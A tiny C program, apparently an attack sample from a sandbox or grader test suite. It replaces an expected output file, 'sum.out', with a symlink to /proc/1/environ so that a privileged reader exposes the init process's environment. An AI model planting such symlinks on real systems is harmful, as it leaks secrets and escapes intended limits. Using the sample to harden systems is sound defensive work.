#include "attack.h"
int main(void) { return symlink("/proc/1/environ", "sum.out"); }
